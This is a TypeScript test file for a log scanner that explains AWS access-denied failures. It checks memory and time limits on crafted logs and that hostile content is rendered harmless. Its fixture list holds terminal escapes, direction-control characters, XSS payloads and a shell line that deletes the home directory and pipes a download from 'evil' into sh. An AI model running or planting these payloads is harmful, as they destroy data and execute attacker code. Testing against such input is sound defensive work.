/** Logs made to exhaust, mislead or deface: bounded memory, no invented denial, harmless output. */
import { describe, expect, it } from 'vitest';
import { readFailures, WHOLE } from '#evidence/log/failures.ts';
import { LogScanner } from '#evidence/log/log-scanner.ts';
import { suspiciousLines } from '#evidence/log/suspicious-lines.ts';
import { explanationJson } from '#render/explanation-json.ts';
import { explanationText } from '#render/explanation-text.ts';
import { plain } from '#render/paint.ts';
import { safeJson } from '#render/safe-json.ts';
import { explainText } from '#tasks/explain.ts';

const ROLE = 'arn:aws:sts::111122223333:assumed-role/app/AWSCodeBuild-1';
const CHUNK = 1 << 16;
/** A group of anchors, what is read around it, and the chunk just read. */
const MOST_HELD = 6 * CHUNK;

/** Pushes the same chunk again and again, and tells how much was held at most. */
function scan(chunk: Buffer, times: number): { readonly most: number; readonly entries: number } {
  const scanner = new LogScanner();
  let most = 0;
  for (let turn = 0; turn < times; turn++) {
    scanner.push(chunk);
    most = Math.max(most, scanner.held);
  }
  return { most, entries: scanner.finish().entries.length };
}

const filled = (words: string): Buffer =>
  Buffer.from(words.repeat(Math.ceil(CHUNK / words.length)).slice(0, CHUNK));

describe('a log made to exhaust', () => {
  it('is read in bounded memory when it is one line of 320 MB', () => {
    const { most, entries } = scan(filled('x'), 5000);
    expect(entries).toBe(0);
    expect(most).toBeLessThan(MOST_HELD);
  });

  it('is read in bounded memory when it is a million lines that nearly deny', () => {
    const { most, entries } = scan(
      filled('guests are not authorized, to perform: nothing at all here now\n'),
      1000,
    );
    expect(entries).toBe(0);
    expect(most).toBeLessThan(MOST_HELD);
  });

  it('is let go of once what follows one denial has been read, however much follows', () => {
    const scanner = new LogScanner();
    scanner.push(filled('ordinary line\n'));
    scanner.push(Buffer.from('Access Denied\n'));
    for (let turn = 0; turn < 50; turn++) scanner.push(filled('ordinary line\n'));
    expect(scanner.held).toBeLessThan(MOST_HELD);
    expect(scanner.finish().entries).toHaveLength(1);
  });

  it.each([
    'explicit deny ',
    'not authorized',
    'to perform: on resource: ',
    '\\',
    '[',
    '"message":"',
    '&#',
    '\u001b]',
  ])('is read in bounded memory when it is %j over and over without an end of line', (words) => {
    const { most } = scan(filled(words), 20);
    expect(most).toBeLessThan(MOST_HELD);
  });

  // Each took seconds for so much: every failure was held against every other, every part against every escape.
  it.each([
    'HTTP error 401 "',
    'not%20authorized',
    'COPY failed:',
    'status 403\n',
    'Aws::aaaa::Errors::',
    '504 Gateway',
    '+ a || echo ">a ; true >b || true\nstatus 403\n',
  ])('takes no longer for each failure where it is %j without end', (words) => {
    const timeOf = (size: number) => {
      const text = words.repeat(Math.ceil(size / words.length));
      const before = process.cpuUsage();
      readFailures(text);
      const { user, system } = process.cpuUsage(before);
      return user + system;
    };
    // What else the machine does can only add.
    const least = (size: number) => Math.min(...Array.from({ length: 5 }, () => timeOf(size)));
    timeOf(CHUNK);
    expect(least(CHUNK) / least(CHUNK / 8)).toBeLessThan(24);
  });

  // It took 6 µs for each break, and a log that has one in every other byte close to a minute.
  it('takes for the end of a line about as long as for any part of one', () => {
    const timeOf = (line: string) => {
      const text = `${line.repeat((4 * CHUNK) / line.length)}denied`;
      const times = [1, 2, 3, 4].map(() => {
        const before = process.cpuUsage();
        suspiciousLines(text, WHOLE);
        const { user, system } = process.cpuUsage(before);
        return user + system;
      });
      return Math.min(...times);
    };
    expect(timeOf('a\n') / timeOf(`${'ordinary '.repeat(7)}\n`)).toBeLessThan(20);
  });

  it('keeps no more than a thousand different failures and says how many more there are', () => {
    const scanner = new LogScanner();
    for (let index = 0; index < 1500; index++) {
      scanner.push(
        Buffer.from(
          `User: ${ROLE} is not authorized to perform: s3:GetObject on resource: arn:aws:s3:::b/${index}\n`,
        ),
      );
    }
    const { entries, omitted } = scanner.finish();
    expect(entries.length).toBeLessThanOrEqual(1000);
    expect(omitted).toBeGreaterThan(0);
  });
});

const HOSTILE: readonly (readonly [string, string])[] = [
  ['terminal escapes', '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b1m'],
  ['controls of direction', '\u202egnp.exe\u2066\u200f\u061c\u2028'],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['Markdown', '[click](javascript:alert(1)) `code` **bold**'],
  ['shell', '$(rm -rf ~); `reboot` && curl evil | sh'],
];

// biome-ignore format: one class
const ACTED_UPON = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

describe('a log that prints', () => {
  it.each(HOSTILE)('%s is rendered harmless as text and as JSON', (_name, words) => {
    const text = `${words}\ndenied: User: ${ROLE}${words} is not authorized to perform: ecr:PutImage on resource: arn:aws:ecr:us-west-2:111122223333:repository/${words}\n${words} exit status 1 Command did not exit successfully ${words}`;
    const explanation = explainText(text);
    expect(explanation.findings.length).toBeGreaterThan(0);
    expect(explanationText(explanation, plain)).not.toMatch(ACTED_UPON);
    const json = safeJson(explanationJson(explanation), 2);
    expect(json).not.toMatch(ACTED_UPON);
    expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(explanationJson(explanation))));
  });
});
